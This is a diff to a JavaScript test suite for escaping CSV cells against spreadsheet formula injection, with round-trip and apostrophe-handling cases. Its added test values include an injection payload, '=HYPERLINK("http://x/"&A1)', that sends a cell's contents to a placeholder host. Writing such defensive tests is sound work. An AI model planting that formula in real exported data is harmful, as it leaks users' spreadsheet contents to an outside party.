@@ -15,7 +15,12 @@ describe('CSV files people open in a spreadsheet', () => {
   });
 
   it('give back exactly what was written, a leading apostrophe included', () => {
-    for (const value of ['=1+1', "'déjà cité'", 'texte', '-2+3']) expect(readCsvCell(safeCsvCell(value))).toBe(value);
+    for (const value of ['=1+1', "'déjà cité'", 'texte', '-2+3', "'=1", "''", '-12', '=HYPERLINK("http://x/"&A1)']) expect(readCsvCell(safeCsvCell(value))).toBe(value);
+  });
+
+  it('remove an apostrophe only where the writer put one: a person’s own stays', () => {
+    for (const typed of ["'Jérôme", "'-12", "'", "'1 234,56", 'texte']) expect(readCsvCell(typed)).toBe(typed);
+    expect(readCsvCell("'=HYPERLINK(\"http://x/\"&A1)")).toBe('=HYPERLINK("http://x/"&A1)');
   });
 
   it('are `;` separated with CRLF, quoted where a cell holds a separator, a quote or a line break', () => {
